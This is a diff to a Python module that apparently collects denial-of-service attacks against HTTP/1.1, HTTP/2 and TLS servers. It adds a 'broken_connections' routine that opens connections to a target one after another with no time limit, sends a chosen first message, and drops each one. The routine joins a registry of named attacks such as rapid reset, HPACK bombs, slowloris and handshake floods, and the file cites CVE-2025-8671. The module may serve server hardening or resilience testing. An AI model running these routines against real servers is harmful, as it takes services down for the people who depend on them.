@@ -395,6 +395,27 @@ def connection_flood(t):
     return result
 
 
+def first_words(t):
+    """What a connection may begin with."""
+    return [f"GET / HTTP/1.1\r\nHost: {t.authority}\r\nConnection: close\r\n\r\n".encode(), PREFACE + settings() + head(t.get(), 1),
+            client_hello(t.authority), b"\r\n\0 no HTTP\r\n"]
+
+
+def broken_connections(t, first, count):
+    """One after the other, each with the same words; not bound in time."""
+    words, result = first_words(t)[first], {"connections": 0}
+    for _ in range(count):
+        try:
+            with socket.create_connection((t.host, t.port), 5) as sock:
+                sock.sendall(words)
+                sock.settimeout(5)
+                sock.recv(1000)
+        except OSError:
+            pass
+        result["connections"] += 1
+    return result
+
+
 def oversize_head(t):
     """Header fields without end."""
     return flood(t, f"GET / HTTP/1.1\r\nHost: {t.authority}\r\n".encode(), lambda i: b"x-%d: " % i + b"y" * 100 + b"\r\n", b"")
@@ -444,7 +465,7 @@ ATTACKS = {f.__name__: f for f in (
     rapid_reset, late_reset, continuation, empty_continuation, slow_continuation, slow_frame, hpack_bomb, reference_bomb, empty_headers, trailers_without_end,
     ping, deaf_ping, empty_settings, long_settings, priority, window_update, empty_data, padded_data, unknown_frames, settings_ack, zero_window,
     many_zero_windows, one_byte_window, deaf, after_goaway, data_with_reset, slowloris_line, slowloris_headers, slow_bodies, slow_read, half_open,
-    connection_flood, oversize_head, handshake_flood, half_handshakes, slow_hello, many_hosts, many_requests,
+    connection_flood, broken_connections, oversize_head, handshake_flood, half_handshakes, slow_hello, many_hosts, many_requests,
     many_connections)}
 # The six ways to make the server reset a stream (CVE-2025-8671).
 ATTACKS |= {
